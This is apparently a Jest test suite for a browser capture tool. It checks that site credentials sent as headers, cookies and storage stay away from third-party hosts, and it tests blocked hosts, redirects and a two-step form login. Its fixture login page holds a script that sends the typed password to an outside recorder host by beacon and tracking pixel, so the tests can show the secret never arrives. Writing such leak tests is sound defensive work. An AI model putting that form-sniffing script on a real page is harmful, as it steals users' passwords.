import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { CaptureError, type Browser } from '../../../src/capture/browser/browser.ts';
import type { CaptureRequest } from '../../../src/capture/browser/capture-request.ts';
import { openBrowser } from '../../../src/capture/browser/open-browser.ts';
import { toStorageState } from '../../../src/capture/site-access/send-access.ts';
import type { SentAccess } from '../../../src/net/sent-access.ts';
import { startRecorder, type Recorder } from '../recorder.ts';
import { LOCAL, never, requestOf } from '../requests.ts';
import { html, openSite, type Handler, type Site } from '../site.ts';

const SECRET = 'swordfish';

let site: Site;
let third: Recorder;
let browser: Browser;
beforeAll(async () => {
  [site, third] = await Promise.all([openSite(), startRecorder()]);
  browser = openBrowser(LOCAL);
});
afterAll(async () => {
  await browser.close();
  await Promise.all([site.close(), third.close()]);
});
afterEach(() => {
  third.got.length = 0;
});

const accessTo = (changes: Partial<SentAccess>): SentAccess => ({
  origin: site.origin,
  headers: [],
  cookies: [],
  localStorage: [],
  ...changes,
});

/** Serves only who has the header, or the cookie. */
const walled =
  (type: string, body: string | Buffer): Handler =>
  ({ headers }, response) => {
    const isIn = headers['x-token'] === SECRET || headers.cookie?.includes(`token=${SECRET}`) === true;
    response.writeHead(isIn ? 200 : 401, { 'content-type': type, 'cache-control': 'no-store' });
    response.end(isIn ? body : html('<p>Keep out</p>'));
  };

const elsewhere = (path: string, host = 'third.localhost') => `http://${host}:${third.port}${path}`;

/** A page that asks the site and somebody else for something in every way there is, and goes away by a redirect. */
function wholePage(host: string): string {
  const at = (path: string) => elsewhere(path, host);
  const away =
    (path: string): Handler =>
    (_, response) =>
      response.writeHead(302, { location: at(path), 'access-control-allow-origin': '*' }).end();
  for (const path of ['image', 'script', 'frame', 'fetch', 'sheet']) site.page(`/away-${path}`, away(`/went-${path}`));
  site.page('/own.css', walled('text/css', 'body { color: rgb(1, 2, 3) }'));
  site.page('/own.json', walled('application/json', '{"mine":true}'));
  site.page('/own-frame', walled('text/html', html('<p>own frame</p>')));
  const head = `<link rel="stylesheet" href="/own.css"><link rel="stylesheet" href="${at('/a.css')}"><link rel="stylesheet" href="/away-sheet">
    <link rel="preload" as="font" crossorigin href="${at('/a.woff2')}">
    <script src="${at('/a.js')}"></script><script src="/away-script"></script>`;
  const body = `<img src="${at('/a.png')}"><img src="/away-image"><iframe src="${at('/frame')}"></iframe>
    <iframe src="/own-frame"></iframe><iframe src="/away-frame"></iframe><p id="out"></p>
    <script type="module">
      const tell = async (work) => work.then((text) => text, () => 'failed');
      const socket = new WebSocket('${at('/socket').replace('http', 'ws')}');
      await new Promise((resolve) => { socket.onclose = resolve; });
      navigator.sendBeacon('${at('/beacon')}', 'x');
      const own = await tell(fetch('/own.json').then((r) => r.text()));
      const other = await tell(fetch('${at('/fetch')}').then((r) => String(r.status)));
      const credentials = await tell(fetch('${at('/with')}', { credentials: 'include' }).then((r) => String(r.status)));
      const gone = await tell(fetch('/away-fetch').then((r) => String(r.status)));
      await new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob(["fetch('${at('/worker')}').finally(() => postMessage(''))"])));
        worker.onmessage = resolve;
      });
      document.title = [own, other, gone, getComputedStyle(document.body).color].join(' ');
      document.getElementById('out').textContent = 'All asked';
      document.getElementById('out').className = 'all-asked';
    </script>`;
  return site.page('/whole', walled('text/html', html(body, head)));
}

/** A socket that closes and a worker that starts are no work that a capture sees. */
const wholeRequest = (url: string, changes: Partial<CaptureRequest>) => {
  const request = requestOf(url, changes);
  return { ...request, rules: { ...request.rules, waitFor: ['.all-asked'] } };
};

const TOKEN_HEADER = {
  headers: [
    { name: 'x-token', value: SECRET },
    { name: 'authorization', value: `Basic ${SECRET}` },
  ],
};
const TOKEN_COOKIE = {
  cookies: [{ name: 'token', value: SECRET, path: '/', httpOnly: true, sameSite: 'Lax' as const }],
};

describe('access to a site', () => {
  it.each([
    ['headers', 'third.localhost', TOKEN_HEADER],
    ['headers', '127.0.0.1', TOKEN_HEADER],
    ['cookies', 'third.localhost', TOKEN_COOKIE],
    ['cookies', '127.0.0.1', TOKEN_COOKIE],
  ])('by %s reaches all of the site, and nothing of it reaches %s', async (_, host, sent) => {
    const url = wholePage(host);
    const capture = await browser.capture(wholeRequest(url, { access: accessTo(sent) }), never);
    expect(capture.title).toBe('{"mine":true} 200 200 rgb(1, 2, 3)');
    for (const path of ['/a.css', '/a.js', '/a.png', '/a.woff2', '/frame', '/socket', '/fetch', '/with', '/worker']) {
      expect(third.lines()).toContain(`GET ${path}`);
    }
    for (const path of ['image', 'script', 'frame', 'fetch', 'sheet']) {
      expect(third.lines()).toContain(`GET /went-${path}`);
    }
    expect(third.got.filter((text) => text.includes(SECRET))).toEqual([]);
    expect(third.lines().filter((line) => line.startsWith('OPTIONS'))).toEqual([]);
  });

  it('leaves hosts that are blocked unasked', async () => {
    const url = wholePage('third.localhost');
    const request = wholeRequest(url, { access: accessTo(TOKEN_HEADER), blockHosts: ['third.localhost'] });
    expect((await browser.capture(request, never)).title).toBe('{"mine":true} failed failed rgb(1, 2, 3)');
    expect(third.lines()).toEqual([]);
  });

  it('does not go along when the page itself redirects elsewhere', async () => {
    const url = site.page('/leaves', (_, response) => response.writeHead(302, { location: elsewhere('/login') }).end());
    const capture = browser.capture(requestOf(url, { access: accessTo({ ...TOKEN_HEADER, ...TOKEN_COOKIE }) }), never);
    await expect(capture).rejects.toMatchObject({ wall: 'login' });
    expect(third.lines()).toEqual(['GET /login']);
    expect(third.got.join('\n')).not.toContain(SECRET);
  });

  it('leaves the screenshot of an open page as it is', async () => {
    const url = site.page('/open', html('<h1>Open</h1><img src="/whole">'));
    const bare = await browser.capture(requestOf(url), never);
    const sent = await browser.capture(
      requestOf(url, { access: accessTo({ ...TOKEN_HEADER, ...TOKEN_COOKIE }) }),
      never,
    );
    expect(sent.sha256).toBe(bare.sha256);
  });

  it('gives the page what a storage state held for it', async () => {
    const url = site.page('/kept', html('<script>document.title = localStorage.getItem("who")</script>'));
    const access = accessTo({ localStorage: [{ name: 'who', value: 'Ada' }] });
    expect((await browser.capture(requestOf(url, { access }), never)).title).toBe('Ada');
  });

  it('keeps what it held where the site moves to https', () => {
    const localStorage = [{ name: 'who', value: 'Ada' }];
    const origins = (origin: string) => toStorageState(accessTo({ origin, localStorage })).origins;
    const insecure = { origin: 'http://site.test', localStorage };
    const secure = { origin: 'https://site.test', localStorage };
    expect(origins('http://site.test')).toEqual([insecure, secure]);
    expect(origins('https://site.test')).toEqual([secure]);
  });

  it('without it, a capture names the wall', async () => {
    const url = site.page('/basic', (_, response) => {
      response.writeHead(401, { 'www-authenticate': 'Basic realm="Staff"' }).end('no');
    });
    const failure = await browser.capture(requestOf(url), never).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(CaptureError);
    expect(failure).toMatchObject({ message: 'The page returned 401 Unauthorized', wall: 'basic' });
  });
});

describe('a form login', () => {
  /** The name first, then the password, as many do; then a cookie and a stored token. */
  function serveLogin(): void {
    const step = (next: string) => `
      <form><input id="name"><button>Next</button></form>
      <form id="second" method="post" action="${next}" hidden><input id="password" name="password" type="password"></form>
      <script>
        document.forms[0].onsubmit = (event) => { event.preventDefault(); document.forms[1].hidden = false; };
        document.forms[1].onsubmit = () => {
          navigator.sendBeacon('${elsewhere('/analytics')}', document.querySelector('#password').value);
          new Image().src = '${elsewhere('/pixel?typed=')}' + encodeURIComponent(document.querySelector('#password').value);
        };
      </script>`;
    site.page('/login', html(step('/session')));
    site.page('/login-elsewhere', html(step(elsewhere('/session'))));
    site.page('/session', (request, response) => {
      let body = '';
      request.on('data', (chunk: Buffer) => (body += chunk.toString()));
      request.on('end', () => {
        const isRight = body === `password=${SECRET}`;
        response.writeHead(303, {
          location: isRight ? '/account' : '/login',
          ...(isRight
            ? { 'set-cookie': [`token=${SECRET}; Path=/; HttpOnly; SameSite=Strict`, 'seen=1; Path=/'] }
            : {}),
        });
        response.end();
      });
    });
    site.page('/account', html('<p id="hello">Hello</p><script>localStorage.setItem("who", "Ada")</script>'));
  }

  const form = (path: string, value = SECRET) => ({
    url: site.origin + path,
    access: accessTo({}),
    fields: [
      { selector: '#name', value: 'ada' },
      { selector: '#password', value },
    ],
    submit: null,
    success: { selector: '#hello', path: '/account' },
    userAgent: null,
    timeout: 3000,
  });

  it('gives what the site then knows the browser by, and what was typed goes nowhere else', async () => {
    serveLogin();
    const signedIn = await browser.signIn(form('/login'));
    expect(signedIn.cookies).toContainEqual({
      name: 'token',
      value: SECRET,
      path: '/',
      httpOnly: true,
      sameSite: 'Strict',
    });
    expect(signedIn.localStorage).toEqual([{ name: 'who', value: 'Ada' }]);
    const url = wholePage('third.localhost');
    const capture = await browser.capture(
      requestOf(url, { access: accessTo(signedIn), waitStrategy: 'networkidle' }),
      never,
    );
    expect(capture.title).toContain('{"mine":true}');
    expect(third.got.filter((text) => text.includes(SECRET))).toEqual([]);
  });

  it('that sends elsewhere is stopped, and the failure does not say what was typed', async () => {
    serveLogin();
    const failure = await browser.signIn(form('/login-elsewhere')).catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(CaptureError);
    expect(JSON.stringify(failure, Object.getOwnPropertyNames(failure))).not.toContain(SECRET);
    expect(third.got.filter((text) => text.includes(SECRET))).toEqual([]);
  });

  it('that is refused says where it led', async () => {
    serveLogin();
    const failure = browser.signIn({ ...form('/login', 'wrong'), timeout: 3000 });
    await expect(failure).rejects.toThrow('The login failed: it did not lead to /account but to /login');
  });
});
